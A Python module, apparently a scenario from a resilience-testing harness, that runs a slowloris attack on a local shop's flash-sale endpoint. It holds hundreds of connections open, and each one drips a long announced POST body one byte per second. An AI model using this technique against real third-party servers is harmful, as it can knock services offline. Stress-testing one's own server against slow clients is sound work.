"""Slow clients (slowloris): each announces a long body and then sends a byte of it a second."""

import asyncio
from functools import partial

from scenarios.attack.counts import Counts
from scenarios.attack.front import Front
from scenarios.attack.order import Attack
from scenarios.attack.pacing import Wait, strikes
from scenarios.attack.wire import BROKEN, PATIENCE_S, Line, request

#: Connections held at once: more would run into this machine's own limit of descriptors.
_AT_ONCE = 400
_LENGTH = 100_000
_EVERY_S = 1.0


async def slow_clients(attack: Attack, counts: Counts, wait: Wait) -> None:
    """Open connections at the attack's rate and hold them until the shop closes them or time is up."""
    front = Front(attack, counts)
    try:
        await strikes(wait, attack, counts, partial(_strike, attack, counts, front), most=_AT_ONCE)
    finally:
        front.close()


async def _strike(attack: Attack, counts: Counts, front: Front, number: int) -> None:
    shopper = attack.bot(number)
    line = Line(await front.region_of(shopper))
    try:
        await _drip(attack, counts, line, shopper)
    except (TimeoutError, *BROKEN) as error:
        counts.add(type(error).__name__)
    finally:
        line.close()


async def _drip(attack: Attack, counts: Counts, line: Line, shopper: str) -> None:
    async with asyncio.timeout(PATIENCE_S):
        reader, writer = await line.open()
    headers = {"X-Shopper": shopper, "Idempotency-Key": shopper, "Content-Length": str(_LENGTH)}
    writer.write(request("POST", f"/flash-sale/{attack.sku}/buy", "localhost", json=None, headers=headers))
    counts.add("connected")
    counts.open += 1
    try:
        while not await _ended(reader):
            writer.write(b" ")
            await writer.drain()
            counts.add("bytes")
        counts.add("ended by the shop")
    finally:
        counts.open -= 1


async def _ended(reader: asyncio.StreamReader) -> bool:
    """Wait until the next byte is due; tell whether the shop has answered or hung up meanwhile."""
    try:
        async with asyncio.timeout(_EVERY_S):
            await reader.read(1)
    except TimeoutError:
        return False
    return True
